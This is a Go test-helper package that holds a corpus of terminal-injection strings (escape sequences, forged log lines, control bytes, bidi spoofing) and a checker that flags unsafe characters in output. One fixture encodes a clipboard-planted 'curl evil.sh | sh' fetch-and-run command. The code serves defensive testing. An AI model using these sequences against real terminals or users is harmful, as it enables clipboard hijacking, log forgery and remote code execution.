// Package injection holds what the tests of every path that prints or
// stores text from elsewhere feed through it: a corpus of terminal escape
// sequences and forged lines, and the check that none is left raw.
package injection

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Case is one hostile text.
type Case struct{ Name, Text string }

// Corpus is text an attacker can put in an image name, a log line, an
// event, a Lease or a server message.
func Corpus() []Case {
	return []Case{
		{"OSC 0 window title", "\x1b]0;pwned\x07"},
		{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\"},
		{"CSI 2J clear screen", "\x1b[2J\x1b[H"},
		{"colour", "\x1b[31mred\x1b[0m"},
		{"NUL", "a\x00b"},
		{"CR", "progress 100%\rforged line"},
		{"LF", "one\nError: forged"},
		{"backspace", "abc\b\b\bxyz"},
		{"DEL", "a\x7fb"},
		{"C1 CSI", "a\u009b2Jb"},
		{"raw C1 byte", "a\x9b2Jb"},
		{"invalid UTF-8", "a\xff\xfeb"},
		{"bidi override", "user\u202egnp.exe"},
		{"bidi isolate", "a\u2066b\u2069"},
	}
}

// All is every case of the corpus in one string, and a 20 000-byte line.
func All() string {
	var b strings.Builder
	for _, c := range Corpus() {
		b.WriteString(c.Text)
		b.WriteString(" ")
	}
	b.WriteString(strings.Repeat("L", 20000))
	return b.String()
}

// Unsafe names the first character of s that could act on a terminal or
// forge a line (a control character but the tab, DEL, a C1 control, a
// byte that is not UTF-8, a bidirectional control), "" when there is none.
// A line's own end is the caller's to strip.
func Unsafe(s string) string {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return fmt.Sprintf("byte %#x (not UTF-8) at %d", s[i], i)
		case r < 0x20 && r != '\t', r == 0x7f, r >= 0x80 && r <= 0x9f,
			r == 0x061c, r == 0x200e, r == 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return fmt.Sprintf("%U at %d", r, i)
		}
		i += size
	}
	return ""
}

// UnsafeLines is Unsafe for output made of lines: the newlines that end
// them are allowed, nothing else.
func UnsafeLines(out string) string {
	for n, line := range strings.Split(out, "\n") {
		if bad := Unsafe(line); bad != "" {
			return fmt.Sprintf("line %d: %s in %q", n+1, bad, line)
		}
	}
	return ""
}
